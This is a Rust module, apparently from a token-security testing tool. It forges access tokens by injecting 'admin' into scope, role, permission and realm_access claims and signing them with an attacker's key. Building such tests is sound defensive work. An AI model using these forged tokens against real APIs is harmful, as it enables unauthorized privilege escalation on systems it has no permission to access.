//! Tokens that grant themselves more, in each claim in which some provider writes what a token grants.

use serde_json::{Value, json};

use crate::error::ForgeryError;
use crate::signing_key::SigningKey;
use crate::token::{ForgedToken, Token};

/// `required` is the scope, permission or role that the API requires.
pub(crate) fn forge_tokens(
    good: &Token,
    required: &str,
    attacker: &SigningKey,
) -> Result<Vec<ForgedToken>, ForgeryError> {
    let list = json!([required, "admin"]);
    let grants = [
        ("scope", json!(format!("{required} admin"))),
        ("scp", list.clone()),
        ("roles", list.clone()),
        ("permissions", list.clone()),
        ("realm_access", json!({ "roles": list })),
    ];
    let mut forged = Vec::new();
    let mut all = good.claims.clone();
    for (name, value) in grants {
        all[name] = value.clone();
        forged.push(sign_claims(good, attacker, name, &good.claims_with(name, value))?);
    }
    forged.push(sign_claims(good, attacker, "every grant", &all)?);
    Ok(forged)
}

fn sign_claims(
    good: &Token,
    attacker: &SigningKey,
    added: &str,
    claims: &Value,
) -> Result<ForgedToken, ForgeryError> {
    let token = attacker.sign_token(&good.header, claims)?;
    Ok(ForgedToken::new(format!("foreign key, {added} added"), token))
}
